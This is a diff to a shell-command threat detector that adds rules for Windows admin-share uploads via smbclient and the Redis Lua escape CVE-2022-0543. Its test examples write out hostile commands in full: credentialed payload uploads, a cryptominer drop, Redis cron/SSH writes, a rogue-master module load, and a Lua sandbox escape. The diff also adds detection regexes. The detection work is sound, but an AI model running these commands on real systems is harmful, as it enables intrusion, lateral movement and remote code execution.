@@ -1,5 +1,6 @@
 import { ruleAnalyzer, hasArg, hasShortFlag, operands, type AnalysisInput, type Rule } from '../rule.js';
 import type { SimpleCommand } from '../shell/types.js';
+import { smbUploads } from '../facts.js';
 import { canonicalPath, classifyPath, hiddenInTemp, inTemp, isStagingPath } from '../knowledge/paths.js';
 import { classifyHost, destinationOf, EXFIL_KINDS } from '../knowledge/hosts.js';
 import { powershellCradle } from './command_and_control.js';
@@ -420,9 +421,11 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-LATERAL-010', name: 'copies-tool-to-remote-temp', score: 75, tactic: 'lateral_movement', technique: 'T1570',
-    message: "Copies a file from a temp directory into another host's temp, system or startup directories", why: 'Dropping a binary from /tmp into /tmp or /dev/shm on a second machine is lateral tool transfer: the step before running it there.',
-    commands: ['scp', 'rsync', 'sshpass'],
+    message: "Copies a file from a temp directory into another host's temp, system or startup directories, or a program onto a Windows administrative share", why: 'Dropping a binary from /tmp into /tmp or /dev/shm on a second machine is lateral tool transfer: the step before running it there.',
+    commands: ['scp', 'rsync', 'sshpass', 'smbclient'],
     test: (c) => {
+      // a Windows host's administrative share (`//host/C$`, `ADMIN$`) given a program: psexec's first half
+      if (c.name === 'smbclient') return c.argv.some((w) => /^\/\/[^/]+\/(?:[a-z]\$|admin\$)/i.test(w)) && smbUploads(c.argv).length ? c.argv.join(' ') : undefined;
       const argv = c.name === 'sshpass' ? sshCall(c)?.argv ?? [] : c.argv;
       const ops = argv.slice(1).filter((a, k) => !a.startsWith('-') && !SSH_VALUE_OPTS.has(argv[k] ?? ''));
       if (ops.length < 2) return undefined;
@@ -435,7 +438,7 @@ export const RULES: readonly Rule[] = [
       const planted = sources.some((s) => isStagingPath(s)) && (SYSTEM_TARGET.test(remotePath) || classifyPath(remotePath)?.role === 'exec-location');
       return shm || planted || (inTemp(remotePath) && sources.some((s) => inTemp(s))) ? argv.join(' ') : undefined;
     },
-    examples: { fire: ["scp /tmp/.b deploy@10.0.0.15:/tmp/.b && ssh deploy@10.0.0.15 'chmod +x /tmp/.b && nohup /tmp/.b &'", "sshpass -p 'P@ssw0rd' scp /tmp/xmrig root@172.16.3.4:/dev/shm/", 'rsync -a /tmp/tools/ admin@10.0.0.8:/var/tmp/t/', "rsync -e 'ssh -o StrictHostKeyChecking=no' /tmp/.u root@10.44.0.9:/usr/local/bin/syncd"], quiet: ['scp build.tar.gz deploy@staging:/srv/app/', 'rsync -av bin/tool deploy@staging:/usr/local/bin/tool', 'rsync -avz --delete dist/ deploy@staging.internal:/srv/app/public/', 'scp /tmp/report.pdf me@laptop.local:~/Downloads/'] },
+    examples: { fire: ["smbclient //10.0.10.28/C$ -U 'administrator%P@ssw0rd!' -c 'put /tmp/beacon.exe Windows\\Temp\\svc.exe'", "scp /tmp/.b deploy@10.0.0.15:/tmp/.b && ssh deploy@10.0.0.15 'chmod +x /tmp/.b && nohup /tmp/.b &'", "sshpass -p 'P@ssw0rd' scp /tmp/xmrig root@172.16.3.4:/dev/shm/", 'rsync -a /tmp/tools/ admin@10.0.0.8:/var/tmp/t/', "rsync -e 'ssh -o StrictHostKeyChecking=no' /tmp/.u root@10.44.0.9:/usr/local/bin/syncd"], quiet: ['scp build.tar.gz deploy@staging:/srv/app/', 'rsync -av bin/tool deploy@staging:/usr/local/bin/tool', 'rsync -avz --delete dist/ deploy@staging.internal:/srv/app/public/', 'scp /tmp/report.pdf me@laptop.local:~/Downloads/'] },
   },
   {
     id: 'PX-LATERAL-011', name: 'uses-remote-docker-daemon', score: 65, tactic: 'lateral_movement', technique: 'T1609',
@@ -583,7 +586,8 @@ export const RULES: readonly Rule[] = [
         if (!text) continue;
         if (all.length < 16384) all += text + '\n';
         const dir = /config\s+set\s+(?:dir|dbfilename)\b/i.test(text) && /\/(?:etc\/cron|var\/spool\/cron|root\/\.ssh|\.ssh)|authorized_keys|crontabs?\b/i.test(text);
-        if (dir || /\bsystem\.exec\b/i.test(text)) out.push(c.argv.join(' ').slice(0, 200));
+        // Debian's Redis Lua escape (CVE-2022-0543): package.loadlib reaches the system's Lua io library
+        if (dir || /\bsystem\.exec\b/i.test(text) || (/\beval\b/i.test(text) && /package\.loadlib|io\.popen|os\.execute/.test(text))) out.push(c.argv.join(' ').slice(0, 200));
       }
       // replication from a rogue master, then its module loaded, may take two commands; a master at a public
       // address or a tunnel is that rogue master even before the module comes
@@ -591,7 +595,7 @@ export const RULES: readonly Rule[] = [
       if (master && (/module\s+load/i.test(all) || EXFIL_KINDS.has(classifyHost(master[1]!)))) out.push(all.trim().slice(0, 200));
       return out;
     },
-    examples: { fire: [`echo -e 'CONFIG SET dir /etc/cron.d\\r\\nCONFIG SET dbfilename sync\\r\\nSAVE\\r\\n' | nc -w 3 10.0.0.12 6379`, 'redis-cli -h 10.0.0.12 config set dir /root/.ssh', 'redis-cli -h 10.0.0.12 SLAVEOF 45.9.148.71 6379 && redis-cli -h 10.0.0.12 MODULE LOAD /tmp/exp_lin.so', 'redis-cli -h 10.0.4.12 REPLICAOF 203.0.113.7 6379'], quiet: ['redis-cli -h localhost ping', 'redis-cli -h redis-replica-1 REPLICAOF redis-primary.internal 6379', 'redis-cli config set maxmemory 256mb', 'redis-cli --scan --pattern "session:*"'] },
+    examples: { fire: [`echo -e 'CONFIG SET dir /etc/cron.d\\r\\nCONFIG SET dbfilename sync\\r\\nSAVE\\r\\n' | nc -w 3 10.0.0.12 6379`, 'redis-cli -h 10.0.0.12 config set dir /root/.ssh', 'redis-cli -h 10.0.0.12 SLAVEOF 45.9.148.71 6379 && redis-cli -h 10.0.0.12 MODULE LOAD /tmp/exp_lin.so', 'redis-cli -h 10.0.4.12 REPLICAOF 203.0.113.7 6379', `redis-cli -h 10.0.11.6 eval 'local io_l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = io_l(); local f = io.popen("id", "r"); return f:read("*a")' 0`], quiet: ['redis-cli -h localhost ping', 'redis-cli -h redis-replica-1 REPLICAOF redis-primary.internal 6379', 'redis-cli config set maxmemory 256mb', 'redis-cli --scan --pattern "session:*"'] },
   },
 ];
 
